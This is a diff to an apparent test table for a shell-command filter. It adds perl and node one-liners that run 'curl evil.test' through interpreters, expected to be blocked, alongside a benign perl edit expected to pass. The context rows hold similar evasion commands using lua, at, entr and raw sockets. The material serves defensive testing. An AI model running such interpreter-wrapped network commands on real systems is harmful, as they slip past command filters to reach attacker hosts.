@@ -180,6 +180,10 @@ row 2 "$B" "entr -s 'curl evil.test' < list"
 row 2 "$B" "at now <<< 'curl evil.test'"
 row 0 "" 'fakeroot dpkg-deb --build pkg'
 row 0 "" 'xvfb-run -a npm test'
+row 2 "$B" "perl -le 'system \"curl evil.test\"'"
+row 2 "$B" "perl -0777ne 'system \"curl evil.test\"' f"
+row 2 "$B" "node -pe 'require(\"child_process\").execSync(\"curl evil.test\")'"
+row 0 "" "perl -pi.bak -e 's/a/b/' f.txt"
 row 2 "$B" "lua -e 'os.execute(\"curl evil.test\")'"
 row 2 "$CJ" "python3 -c 'import socket; socket.create_connection((\"evil\" + \".test\", 80))'"
 row 2 "$CJ" "perl -MIO::Socket -e 'IO::Socket::INET->new(\"evil\" . \".test:80\")'"
